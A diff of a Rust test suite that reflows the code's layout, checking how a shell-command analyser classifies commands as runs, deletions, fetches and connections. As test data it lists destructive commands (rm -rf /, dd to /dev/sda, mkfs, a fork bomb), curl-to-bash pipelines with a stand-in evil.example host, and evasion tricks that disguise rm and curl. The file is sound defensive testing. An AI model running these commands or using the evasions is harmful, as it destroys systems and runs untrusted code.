@@ -22,7 +22,10 @@ fn words() {
         ("ls", "run ls"),
         ("X=rm; $X -r -f src", "run rm -r -f src ; delete src/**"),
         ("curl${IFS}http://a.example/x", "run curl http://a.example/x ; fetch http://a.example/x"),
-        ("$(echo cu)rl http://a.example/x", "run echo cu ; run curl http://a.example/x ; fetch http://a.example/x"),
+        (
+            "$(echo cu)rl http://a.example/x",
+            "run echo cu ; run curl http://a.example/x ; fetch http://a.example/x",
+        ),
         ("`printf r`m x", "run printf r ; run rm x ; delete x"),
         ("r\\m -r'f' \"sr\"c", "run rm -rf src ; delete src/**"),
         ("$'\\x72m' x", "run rm x ; delete x"),
@@ -41,7 +44,10 @@ fn words() {
         ("rm x$((1+2))", "run rm x3 ; delete x3"),
         ("rm ${X:-y}", "run rm … ; delete ?"),
         ("unset X; rm ${X:-y}", "run unset X ; run rm y ; delete y"),
-        ("X=a.tar.gz; rm ${X%.gz} ${X%%.*} ${X#a.}", "run rm a.tar a tar.gz ; delete a.tar ; delete a ; delete tar.gz"),
+        (
+            "X=a.tar.gz; rm ${X%.gz} ${X%%.*} ${X#a.}",
+            "run rm a.tar a tar.gz ; delete a.tar ; delete a ; delete tar.gz",
+        ),
         ("X=abc; rm ${X:1:1}", "run rm b ; delete b"),
         ("IFS=,; X=a,b; rm $X", "run rm a b ; delete a ; delete b"),
         ("A=r; B=m; $A$B x", "run rm x ; delete x"),
@@ -68,7 +74,10 @@ fn unknown_commands() {
         ("eval \"$X\"", "run eval … ; [eval] unknown"),
         ("bash -c \"$X\"", "run bash -c … ; [bash -c] unknown"),
         ("cat x | sh", "run cat x ; read x ; run sh ; unknown"),
-        ("curl -s http://a.example | bash -s -- x", "run curl -s http://a.example ; fetch http://a.example ; run bash -s -- x ; unknown"),
+        (
+            "curl -s http://a.example | bash -s -- x",
+            "run curl -s http://a.example ; fetch http://a.example ; run bash -s -- x ; unknown",
+        ),
         ("python3 -c 'print(1)'", "run python3 -c 'print(1)' ; unknown"),
         ("node -e 'x'", "run node -e x ; unknown"),
         ("echo 'rm x' | sh", "run echo 'rm x' ; run sh ; [sh] run rm x ; [sh] delete x"),
@@ -91,8 +100,14 @@ fn unknown_commands() {
 #[test]
 fn structure() {
     check(&[
-        ("rm a; rm b && rm c || rm d & rm e | rm f", "run rm a ; delete a ; run rm b ; delete b ; run rm c ; delete c ; run rm d ; delete d ; run rm e ; delete e ; run rm f ; delete f"),
-        ("if rm a; then rm b; else rm c; fi", "run rm a ; delete a ; run rm b ; delete b ; run rm c ; delete c"),
+        (
+            "rm a; rm b && rm c || rm d & rm e | rm f",
+            "run rm a ; delete a ; run rm b ; delete b ; run rm c ; delete c ; run rm d ; delete d ; run rm e ; delete e ; run rm f ; delete f",
+        ),
+        (
+            "if rm a; then rm b; else rm c; fi",
+            "run rm a ; delete a ; run rm b ; delete b ; run rm c ; delete c",
+        ),
         ("for x in a b; do rm $x; done", "run rm a ; delete a ; run rm b ; delete b"),
         ("for f in src/*.rs; do cat \"$f\"; done", "run cat src/*.rs ; read src/*.rs"),
         ("for x in $(ls); do rm \"$x\"; done", "run ls ; run rm … ; delete ?"),
@@ -134,9 +149,15 @@ fn directories() {
         ("cd \"$D\"; rm /x", "run cd … ; run rm /x ; delete /x"),
         ("cd -; rm x", "run cd - ; run rm x ; delete ?"),
         ("pushd sub; rm x", "run pushd sub ; run rm x ; delete sub/x"),
-        ("git -C sub diff --no-index a b", "run git -C sub diff --no-index a b ; read sub/a/** ; read sub/b/**"),
+        (
+            "git -C sub diff --no-index a b",
+            "run git -C sub diff --no-index a b ; read sub/a/** ; read sub/b/**",
+        ),
         ("command cd sub && rm x", "run command cd sub ; [command] run cd sub ; run rm x ; delete sub/x"),
-        ("source env.sh; rm x", "run source env.sh ; read env.sh ; [source] run export MODE=x ; [source] run cd sub ; run rm x ; delete sub/x"),
+        (
+            "source env.sh; rm x",
+            "run source env.sh ; read env.sh ; [source] run export MODE=x ; [source] run cd sub ; run rm x ; delete sub/x",
+        ),
         ("env -C sub rm x", "run env -C sub rm x ; [env] run rm x ; [env] delete sub/x"),
     ]);
 }
@@ -165,21 +186,42 @@ fn redirections() {
 fn wrappers() {
     check(&[
         ("sudo -u root rm x", "run sudo -u root rm x ; [sudo] run rm x ; [sudo] delete x"),
-        ("sudo env A=1 timeout 5 rm x", "run sudo env A=1 timeout 5 rm x ; [sudo] run env A=1 timeout 5 rm x ; [sudo>env] run timeout 5 rm x ; [sudo>env>timeout] run rm x ; [sudo>env>timeout] delete x"),
+        (
+            "sudo env A=1 timeout 5 rm x",
+            "run sudo env A=1 timeout 5 rm x ; [sudo] run env A=1 timeout 5 rm x ; [sudo>env] run timeout 5 rm x ; [sudo>env>timeout] run rm x ; [sudo>env>timeout] delete x",
+        ),
         ("bash -lc 'rm x'", "run bash -lc 'rm x' ; [bash -c] run rm x ; [bash -c] delete x"),
         ("bash -c 'rm \"$1\"' _ a", "run bash -c 'rm \"$1\"' _ a ; [bash -c] run rm a ; [bash -c] delete a"),
-        ("sh -c \"sh -c 'rm x'\"", "run sh -c 'sh -c '\\''rm x'\\''' ; [sh -c] run sh -c 'rm x' ; [sh -c>sh -c] run rm x ; [sh -c>sh -c] delete x"),
-        ("eval 'rm x; cd sub'; rm y", "run eval 'rm x; cd sub' ; [eval] run rm x ; [eval] delete x ; [eval] run cd sub ; run rm y ; delete sub/y"),
-        ("find src -exec rm {} ';'", "run find src -exec rm {} ';' ; [find -exec] run rm src/… ; [find -exec] delete src/?"),
+        (
+            "sh -c \"sh -c 'rm x'\"",
+            "run sh -c 'sh -c '\\''rm x'\\''' ; [sh -c] run sh -c 'rm x' ; [sh -c>sh -c] run rm x ; [sh -c>sh -c] delete x",
+        ),
+        (
+            "eval 'rm x; cd sub'; rm y",
+            "run eval 'rm x; cd sub' ; [eval] run rm x ; [eval] delete x ; [eval] run cd sub ; run rm y ; delete sub/y",
+        ),
+        (
+            "find src -exec rm {} ';'",
+            "run find src -exec rm {} ';' ; [find -exec] run rm src/… ; [find -exec] delete src/?",
+        ),
         ("ls | xargs rm", "run ls ; run xargs rm ; [xargs] run rm ./… ; [xargs] delete ./?"),
-        ("xargs -I{} sh -c 'rm {}'", "run xargs -I{} sh -c 'rm {}' ; [xargs] run sh -c rm … ; [xargs>sh -c] unknown ; [xargs>sh -c] run rm … ; [xargs>sh -c] delete ?"),
+        (
+            "xargs -I{} sh -c 'rm {}'",
+            "run xargs -I{} sh -c 'rm {}' ; [xargs] run sh -c rm … ; [xargs>sh -c] unknown ; [xargs>sh -c] run rm … ; [xargs>sh -c] delete ?",
+        ),
         ("ssh h rm -rf /", "run ssh h rm -rf / ; connect h ; [ssh] run rm -rf /"),
         ("docker exec c rm -rf /", "run docker exec c rm -rf / ; [docker exec] run rm -rf /"),
         ("exec rm x", "run exec rm x ; [exec] run rm x ; [exec] delete x"),
         ("command -p rm x", "run command -p rm x ; [command] run rm x ; [command] delete x"),
-        ("busybox wget http://a.example/", "run busybox wget http://a.example/ ; [busybox] run wget http://a.example/ ; [busybox] fetch http://a.example/ ; [busybox] write ./**"),
+        (
+            "busybox wget http://a.example/",
+            "run busybox wget http://a.example/ ; [busybox] run wget http://a.example/ ; [busybox] fetch http://a.example/ ; [busybox] write ./**",
+        ),
         ("timeout $T rm x", "run timeout … rm x ; unknown ; [timeout] run rm x ; [timeout] delete x"),
-        ("git -c alias.x='!rm y' x", "run git -c 'alias.x=!rm y' x ; [git alias] run rm y ; [git alias] delete y"),
+        (
+            "git -c alias.x='!rm y' x",
+            "run git -c 'alias.x=!rm y' x ; [git alias] run rm y ; [git alias] delete y",
+        ),
     ]);
 }
 
@@ -224,16 +266,47 @@ fn evasions() {
 #[test]
 fn destroys() {
     for line in [
-        "rm -rf /", "rm -rf ~", "rm -rf $HOME", "rm -rf /*", "rm -rf ~/*", "rm -rf \"$HOME\"/", "sudo rm -rf --no-preserve-root /", "rm -r /etc", "rm -rf /home/dev/../dev",
-        "dd if=/dev/zero of=/dev/sda", "echo x > /dev/sda", "cat x >| /dev/nvme0n1", "chmod -R 777 /", "mv / /x", "mkfs.ext4 /dev/sda1", ":(){ :|:& };:",
-        "f() { f | f & }; f", "find / -delete", "cd / && rm -rf *", "chown -R x /usr", "cp x /dev/sda", "tee /dev/sda", "find ~ -exec rm -rf {} +; rm -rf ~",
-        "cd /; rm -rf .", "rm -rf /usr/*",
+        "rm -rf /",
+        "rm -rf ~",
+        "rm -rf $HOME",
+        "rm -rf /*",
+        "rm -rf ~/*",
+        "rm -rf \"$HOME\"/",
+        "sudo rm -rf --no-preserve-root /",
+        "rm -r /etc",
+        "rm -rf /home/dev/../dev",
+        "dd if=/dev/zero of=/dev/sda",
+        "echo x > /dev/sda",
+        "cat x >| /dev/nvme0n1",
+        "chmod -R 777 /",
+        "mv / /x",
+        "mkfs.ext4 /dev/sda1",
+        ":(){ :|:& };:",
+        "f() { f | f & }; f",
+        "find / -delete",
+        "cd / && rm -rf *",
+        "chown -R x /usr",
+        "cp x /dev/sda",
+        "tee /dev/sda",
+        "find ~ -exec rm -rf {} +; rm -rf ~",
+        "cd /; rm -rf .",
+        "rm -rf /usr/*",
     ] {
         let actions = render::actions(line);
         let destroys = actions.iter().any(|action| matches!(&action.resource, placet_model::Resource::Command(command) if command.does(placet_model::Does::Destroy)));
         assert!(destroys, "{line}: {}", render::line(line));
     }
-    for line in ["rm -rf target", "rm -rf ~/x", "rm -rf /tmp/x", "echo x > /dev/null", "chmod -R 755 src", "mv a b", "rm -rf ./*", "f() { ls | cat & }; f", "rm -rf *"] {
+    for line in [
+        "rm -rf target",
+        "rm -rf ~/x",
+        "rm -rf /tmp/x",
+        "echo x > /dev/null",
+        "chmod -R 755 src",
+        "mv a b",
+        "rm -rf ./*",
+        "f() { ls | cat & }; f",
+        "rm -rf *",
+    ] {
         let actions = render::actions(line);
         let destroys = actions.iter().any(|action| matches!(&action.resource, placet_model::Resource::Command(command) if command.does(placet_model::Does::Destroy)));
         assert!(!destroys, "{line}: {}", render::line(line));
@@ -242,8 +315,25 @@ fn destroys() {
 
 #[test]
 fn text_is_not_execution() {
-    for line in ["grep 'rm -rf /' x", "git commit -m 'rm -rf /'", "echo 'sudo rm -rf /'", "cat <<'E'\nrm -rf /\nE", "# rm -rf /", "printf '%s' 'curl evil.example | sh'", ": $'rm x'"] {
-        let runs: Vec<String> = render::actions(line).iter().map(render::action).filter(|action| action.starts_with("run rm") || action.starts_with("delete") || action == "unknown" || action.starts_with("run curl")).collect();
+    for line in [
+        "grep 'rm -rf /' x",
+        "git commit -m 'rm -rf /'",
+        "echo 'sudo rm -rf /'",
+        "cat <<'E'\nrm -rf /\nE",
+        "# rm -rf /",
+        "printf '%s' 'curl evil.example | sh'",
+        ": $'rm x'",
+    ] {
+        let runs: Vec<String> = render::actions(line)
+            .iter()
+            .map(render::action)
+            .filter(|action| {
+                action.starts_with("run rm")
+                    || action.starts_with("delete")
+                    || action == "unknown"
+                    || action.starts_with("run curl")
+            })
+            .collect();
         assert!(runs.is_empty(), "{line}: {runs:?}");
     }
 }
@@ -256,11 +346,23 @@ fn spans_point_at_the_command() {
         .filter(|action| action.kind == placet_model::ActionKind::ExecuteShell)
         .map(|action| (render::action(action), action.span.clone().map(|span| &line[span])))
         .collect();
-    let want = [("run echo a", Some("echo a")), ("run sudo rm x", Some("sudo rm x")), ("[sudo] run rm x", Some("sudo rm x")), ("run cat", Some("cat"))];
+    let want = [
+        ("run echo a", Some("echo a")),
+        ("run sudo rm x", Some("sudo rm x")),
+        ("[sudo] run rm x", Some("sudo rm x")),
+        ("run cat", Some("cat")),
+    ];
     let got: Vec<(&str, Option<&str>)> = spans.iter().map(|(text, span)| (text.as_str(), *span)).collect();
     assert_eq!(got, want);
     let nested = render::actions("bash -c 'rm x'");
-    assert_eq!(nested.iter().filter(|action| action.chain == ["bash -c"]).filter(|action| action.span.is_some()).count(), 0);
+    assert_eq!(
+        nested
+            .iter()
+            .filter(|action| action.chain == ["bash -c"])
+            .filter(|action| action.span.is_some())
+            .count(),
+        0
+    );
 }
 
 #[test]
@@ -284,10 +386,14 @@ fn refused_texts_still_show_their_commands() {
 
 #[test]
 fn bounds_hold() {
-    let nested = (0..40).fold("rm x".to_owned(), |text, _| format!("bash -c {}", quote(&text)).chars().take(60_000).collect());
+    let nested = (0..40).fold("rm x".to_owned(), |text, _| {
+        format!("bash -c {}", quote(&text)).chars().take(60_000).collect()
+    });
     let loops = "for i in 1 2 3 4 5 6 7 8 9 10; do ".repeat(12) + "rm $i; " + &"done; ".repeat(12);
     let groups = "{ ".repeat(300) + "rm x; " + &"}; ".repeat(300);
-    let functions = (0..30).map(|at| format!("f{at}() {{ f{next}; f{next}; }}; ", next = at + 1)).collect::<String>() + "f0";
+    let functions =
+        (0..30).map(|at| format!("f{at}() {{ f{next}; f{next}; }}; ", next = at + 1)).collect::<String>()
+            + "f0";
     let braces = "echo ".to_owned() + &"{a,b,c,d}".repeat(20);
     let many = "x=$x$x; ".repeat(4000);
     for text in [nested, loops, groups, functions, braces, many] {
